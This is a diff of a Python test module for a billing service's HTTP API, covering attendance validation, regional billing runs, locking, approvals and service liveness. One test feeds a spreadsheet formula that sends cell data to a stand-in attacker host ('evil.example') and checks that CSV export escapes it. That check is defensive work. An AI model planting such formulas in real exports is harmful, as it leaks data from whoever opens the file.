@@ -1,26 +1,59 @@
 """Billing's HTTP API: validation, attendance files, concurrency, four eyes, the treasury."""
 
 import asyncio
+import csv
+import io
+import time
 from collections.abc import AsyncIterator
-from datetime import date
+from datetime import date, datetime, timedelta
+from pathlib import Path
+from zoneinfo import ZoneInfo
 
 import asyncpg
+import httpx
 import pytest_asyncio
 from billing_world import (
     APPROVER,
     attend,
     enroll,
+    feed,
     invoice_of,
+    license_fields,
     licensed_provider,
+    new_bin,
     new_iin,
     run,
     tariff,
 )
-from harness import ADMIN, RunningService, reset_service, running_service, settings_for, test_dsn
+from harness import (
+    ADMIN,
+    RunningService,
+    processes,
+    reset_service,
+    running_service,
+    settings_for,
+    spawn_service,
+    test_dsn,
+    wait_ready,
+)
+from ssu_billing.domain import Month
 from ssu_billing.main import build
 from ssu_billing.settings import Settings
+from ssu_contracts import LicenseIssuedV1
 
 EAST = {"Authorization": "Bearer ssu-dev-east-kz"}
+
+
+async def probe_liveness(http: httpx.AsyncClient, url: str, done: asyncio.Event) -> list[float]:
+    """Latencies of /health/live asked every 100 ms until `done`."""
+    latencies: list[float] = []
+    while not done.is_set():
+        started = time.perf_counter()
+        r = await http.get(f"{url}/health/live")
+        latencies.append(time.perf_counter() - started)
+        assert r.status_code == 200
+        await asyncio.sleep(0.1)
+    return latencies
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="session")
@@ -65,7 +98,7 @@ async def test_a_rate_outside_the_national_limits_is_refused(svc: RunningService
 
 
 async def test_attendance_rows_are_checked_one_by_one(svc: RunningService) -> None:
-    region, year = "330000000", 2041
+    region, year = "330000000", 2025
     bin_, lic, _ = await licensed_provider(svc, region=region, year=year)
     iin = new_iin()
     e = await enroll(svc, bin_, lic, date(year, 1, 10), region=region, iin=iin)
@@ -128,6 +161,7 @@ async def test_attendance_rows_are_checked_one_by_one(svc: RunningService) -> No
     assert r.status_code == 200, r.text
     assert r.json() == {
         "accepted": 2,
+        "rejected_count": 3,
         "rejected": [
             {
                 "line": 2,
@@ -156,7 +190,7 @@ async def test_attendance_rows_are_checked_one_by_one(svc: RunningService) -> No
 
 
 async def test_two_concurrent_runs_of_one_period_issue_one_invoice(svc: RunningService) -> None:
-    region, year = "350000000", 2042
+    region, year = "350000000", 2025
     bin_, lic, _ = await licensed_provider(svc, region=region, year=year)
     await tariff(
         svc,
@@ -174,10 +208,13 @@ async def test_two_concurrent_runs_of_one_period_issue_one_invoice(svc: RunningS
     holder = await asyncpg.connect(test_dsn("billing"))
     try:
         await holder.execute(
-            "SELECT pg_advisory_lock(hashtextextended('ssu.billing.run:' || $1, 0))",
+            "SELECT pg_advisory_lock(hashtextextended('ssu.billing.run:' || $1 || ':' || $2, 0))",
             f"{year}-01",
+            region,
         )
-        r = await svc.client.post("/v1/runs", headers=ADMIN, json={"period": f"{year}-01"})
+        r = await svc.client.post(
+            "/v1/runs", headers=ADMIN, json={"period": f"{year}-01", "region": region}
+        )
         assert r.status_code == 409
         assert r.json()["detail"] == f"a billing run for {year}-01 is in progress"
     finally:
@@ -185,18 +222,20 @@ async def test_two_concurrent_runs_of_one_period_issue_one_invoice(svc: RunningS
 
     # two requests at once: one runs, the other is refused (409) or sees the finished run
     first, second = await asyncio.gather(
-        svc.client.post("/v1/runs", headers=ADMIN, json={"period": f"{year}-01"}),
-        svc.client.post("/v1/runs", headers=ADMIN, json={"period": f"{year}-01"}),
+        svc.client.post("/v1/runs", headers=ADMIN, json={"period": f"{year}-01", "region": region}),
+        svc.client.post("/v1/runs", headers=ADMIN, json={"period": f"{year}-01", "region": region}),
     )
     assert sorted([first.status_code, second.status_code]) in ([200, 201], [201, 409])
-    runs = await svc.pool.fetchval("SELECT count(*) FROM runs WHERE period = $1", f"{year}-01")
+    runs = await svc.pool.fetchval(
+        "SELECT count(*) FROM runs WHERE period = $1 AND region = $2", f"{year}-01", region
+    )
     assert runs == 1
     invoice = await invoice_of(svc, bin_, f"{year}-01")
     assert invoice["total"] == "14000.00"
 
 
 async def test_four_eyes_payment_register_and_reconciliation(svc: RunningService) -> None:
-    region, year = "390000000", 2043
+    region, year = "390000000", 2025
     a_bin, a_lic, a_contract = await licensed_provider(svc, region=region, year=year)
     b_bin, b_lic, b_contract = await licensed_provider(svc, region=region, year=year)
     await tariff(
@@ -211,7 +250,7 @@ async def test_four_eyes_payment_register_and_reconciliation(svc: RunningService
     b = await enroll(svc, b_bin, b_lic, date(year, 1, 1), region=region)
     await attend(svc, a_bin, f"{year}-01", {a: [4, 5, 6]})
     await attend(svc, b_bin, f"{year}-01", {b: [4, 5, 6, 7, 8]})
-    started = await run(svc, f"{year}-01")
+    started = await run(svc, f"{year}-01", region=region)
     register_url = f"/v1/payment-registers/{region}/{year}-01.csv"
     header = (
         "invoice_number,contract_number,provider_bin,provider_name,region,period,amount,"
@@ -306,7 +345,7 @@ async def test_four_eyes_payment_register_and_reconciliation(svc: RunningService
 
 
 async def test_a_regional_key_sees_only_its_region(svc: RunningService) -> None:
-    year = 2044
+    year = 2026  # the one national run of this module; the other tests bill 2025 by region
     east, east_lic, _ = await licensed_provider(svc, region="630000000", year=year)
     west, west_lic, _ = await licensed_provider(svc, region="270000000", year=year)
     await tariff(
@@ -327,7 +366,8 @@ async def test_a_regional_key_sees_only_its_region(svc: RunningService) -> None:
     )
     await enroll(svc, east, east_lic, date(year, 1, 1), region="630000000")
     await enroll(svc, west, west_lic, date(year, 1, 1), region="270000000")
-    await run(svc, f"{year}-01")
+    national = await run(svc, f"{year}-01")
+    assert (national["region"], national["invoices"]) == (None, 2)
     r = await svc.client.get("/v1/invoices", headers=EAST, params={"period": f"{year}-01"})
     assert [i["provider_bin"] for i in r.json()["items"]] == [east]
     west_invoice = await invoice_of(svc, west, f"{year}-01")
@@ -343,11 +383,210 @@ async def test_a_regional_key_sees_only_its_region(svc: RunningService) -> None:
 
 
 async def test_metrics_show_run_durations_and_invoices_by_status(svc: RunningService) -> None:
-    region, year = "430000000", 2045
+    region, year = "430000000", 2025
     bin_, lic, _ = await licensed_provider(svc, region=region, year=year)
     await enroll(svc, bin_, lic, date(year, 1, 1), region=region)
-    await run(svc, f"{year}-01")
+    await run(svc, f"{year}-01", region=region)
     r = await svc.client.get("/metrics")
     assert r.status_code == 200
-    assert f'ssu_billing_run_duration_seconds{{period="{year}-01",service="billing"}}' in r.text
+    assert (
+        f'ssu_billing_run_duration_seconds{{period="{year}-01",region="{region}",service="billing"}}'
+        in r.text
+    )
     assert 'ssu_billing_invoices{service="billing",status="issued"}' in r.text
+
+
+async def test_dates_after_today_in_almaty_are_refused(svc: RunningService) -> None:
+    region = "470000000"
+    today = datetime.now(ZoneInfo("Asia/Almaty")).date()
+    tomorrow, next_month = today + timedelta(days=1), Month(today.replace(day=1)).next()
+    bin_, lic, _ = await licensed_provider(svc, region=region, year=today.year)
+    e = await enroll(svc, bin_, lic, today.replace(day=1), region=region)
+
+    r = await svc.client.post(
+        "/v1/attendance",
+        headers=ADMIN,
+        json={
+            "provider_bin": bin_,
+            "month": f"{tomorrow:%Y-%m}",
+            "enrollments": [
+                {"enrollment_id": e, "dates": [today.isoformat(), tomorrow.isoformat()]}
+            ],
+        },
+    )
+    assert r.status_code == 422
+    assert r.headers["content-type"] == "application/problem+json"
+    message = f"is after today ({today.isoformat()}, Asia/Almaty)"
+    assert r.json()["errors"] == [{"field": "enrollments.0.dates.1", "message": message}]
+    assert (
+        await svc.pool.fetchval("SELECT count(*) FROM attendance WHERE enrollment_id = $1", e) == 0
+    )
+
+    iin = await svc.pool.fetchval("SELECT iin FROM enrollments WHERE enrollment_id = $1", e)
+    r = await svc.client.post(
+        "/v1/attendance/import",
+        headers={**ADMIN, "Content-Type": "text/csv"},
+        content=f"iin,provider_bin,date\n{iin},{bin_},{today}\n{iin},{bin_},{tomorrow}\n".encode(),
+    )
+    assert r.status_code == 200, r.text
+    assert (r.json()["accepted"], r.json()["rejected"]) == (
+        1,
+        [{"line": 3, "field": "date", "reason": f"date {message}", "value": str(tomorrow)}],
+    )
+
+    r = await svc.client.post(
+        "/v1/runs", headers=ADMIN, json={"period": next_month.label, "region": region}
+    )
+    assert r.status_code == 422
+    assert r.json()["errors"] == [
+        {"field": "period", "message": f"{next_month.label} has not begun (today is {today})"}
+    ]
+    assert (
+        await svc.pool.fetchval("SELECT count(*) FROM runs WHERE period = $1", next_month.label)
+        == 0
+    )
+
+
+async def test_a_national_run_bills_what_regional_runs_have_not(svc: RunningService) -> None:
+    period, year = "2026-05", 2026
+    regions = ("550000000", "590000000")
+    (a_bin, a_lic, _), (b_bin, b_lic, _) = [
+        await licensed_provider(svc, region=r, year=year) for r in regions
+    ]
+    for r in regions:
+        await tariff(
+            svc,
+            region=r,
+            form="stationary",
+            rate="1000.00",
+            unit="day",
+            effective_from=date(year, 1, 1),
+        )
+    a = await enroll(svc, a_bin, a_lic, date(year, 5, 1), region=regions[0])
+    b = await enroll(svc, b_bin, b_lic, date(year, 5, 1), region=regions[1])
+    await attend(svc, a_bin, period, {a: [4, 5]})
+    await attend(svc, b_bin, period, {b: [4, 5, 6]})
+
+    regional = await run(svc, period, region=regions[0])
+    assert (regional["region"], regional["invoices"], regional["total"]) == (
+        regions[0],
+        1,
+        "2000.00",
+    )
+    national = await run(svc, period)
+    assert national["region"] is None
+    a_invoice, b_invoice = (
+        await invoice_of(svc, a_bin, period),
+        await invoice_of(svc, b_bin, period),
+    )
+    # region a keeps the invoice of its own run; the national run billed region b
+    assert (a_invoice["run_id"], a_invoice["total"]) == (regional["id"], "2000.00")
+    assert (b_invoice["run_id"], b_invoice["total"]) == (national["id"], "3000.00")
+
+    again = await run(svc, period, expect=200, region=regions[0])
+    assert (again["id"], again["repeated"]) == (regional["id"], True)
+    r = await svc.client.post(
+        "/v1/runs", headers=ADMIN, json={"period": period, "region": regions[1]}
+    )
+    assert r.status_code == 409
+    assert r.json()["detail"] == (
+        f"{period} was billed by a national run, which covered region {regions[1]}"
+    )
+
+
+async def test_the_payment_register_escapes_cells_a_spreadsheet_would_run(
+    svc: RunningService,
+) -> None:
+    region, year = "610000000", 2025
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Оплатить")'
+    bin_ = new_bin()
+    number = f"LIC-{bin_}"
+    fields = license_fields(bin_, number, seq=1, status="active", effective=date(year, 1, 1))
+    await feed(svc, LicenseIssuedV1(**{**fields, "region": region, "provider_name": hostile}))
+    contract = "@SUM(1+1)"
+    r = await svc.client.post(
+        "/v1/contracts",
+        headers=ADMIN,
+        json={
+            "number": contract,
+            "provider_bin": bin_,
+            "region": region,
+            "year": year,
+            "budget": "1000000.00",
+        },
+    )
+    assert r.status_code == 201, r.text
+    await tariff(
+        svc,
+        region=region,
+        form="stationary",
+        rate="1500.00",
+        unit="day",
+        effective_from=date(year, 1, 1),
+    )
+    e = await enroll(svc, bin_, number, date(year, 3, 1), region=region)
+    await attend(svc, bin_, f"{year}-03", {e: [2, 3]})
+    started = await run(svc, f"{year}-03", region=region)
+    r = await svc.client.post(f"/v1/runs/{started['id']}/approve", headers=APPROVER)
+    assert r.status_code == 200
+
+    r = await svc.client.get(f"/v1/payment-registers/{region}/{year}-03.csv", headers=ADMIN)
+    assert r.status_code == 200
+    rows = list(csv.reader(io.StringIO(r.text)))
+    assert rows[1] == [
+        f"'{contract}/{year}-03",
+        f"'{contract}",
+        bin_,
+        f"'{hostile}",
+        region,
+        f"{year}-03",
+        "3000.00",
+        "dev-approver",
+    ]
+    # every cell a spreadsheet would read as a formula is escaped; an amount stays a number
+    assert [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+
+
+async def test_a_large_attendance_file_of_bad_rows_keeps_the_service_live(
+    tmp_path: Path,
+) -> None:
+    # 400 KB of one-cell rows: 200,000 rows without a date
+    text = "iin,provider_bin,date\n" + "x\n" * 200_000
+    headers = {**ADMIN, "Content-Type": "text/csv"}
+    proc = spawn_service("billing", log_dir=tmp_path, env={"SSU_DELIVERY_LIMIT": "5"})
+    maxima: list[float] = []
+    with processes(proc):
+        await wait_ready(proc)
+        async with httpx.AsyncClient(timeout=60) as http, httpx.AsyncClient() as kubelet:
+            url = f"{proc.url}/v1/attendance/import"
+            r = await http.post(url, content=b"iin,provider_bin,date\nx\n", headers=headers)
+            assert r.status_code == 200  # steady state: the route has served once
+            # A blocked loop delays every probe by the whole parse on every attempt; a busy
+            # machine delays one now and then, so up to three attempts are made.
+            for _ in range(3):
+                done = asyncio.Event()
+                probe = asyncio.create_task(probe_liveness(kubelet, proc.url, done))
+                await asyncio.sleep(0.1)
+                r = await http.post(url, content=text.encode(), headers=headers)
+                done.set()
+                latencies = await probe
+                assert len(latencies) >= 5
+                maxima.append(max(latencies))
+                if maxima[-1] < 0.1:
+                    break
+    print(
+        f"attendance import of {len(text)} bytes: liveness max per attempt "
+        f"{[round(m * 1000, 1) for m in maxima]} ms; answer {len(r.content)} bytes"
+    )
+    assert r.status_code == 200
+    body = r.json()
+    assert (body["accepted"], body["rejected_count"]) == (0, 200_000)
+    assert [e["line"] for e in body["rejected"]] == list(range(2, 102))
+    assert body["rejected"][0] == {
+        "line": 2,
+        "field": "date",
+        "reason": "not a date (YYYY-MM-DD)",
+        "value": "",
+    }
+    assert len(r.content) < 20_000
+    assert min(maxima) < 0.1
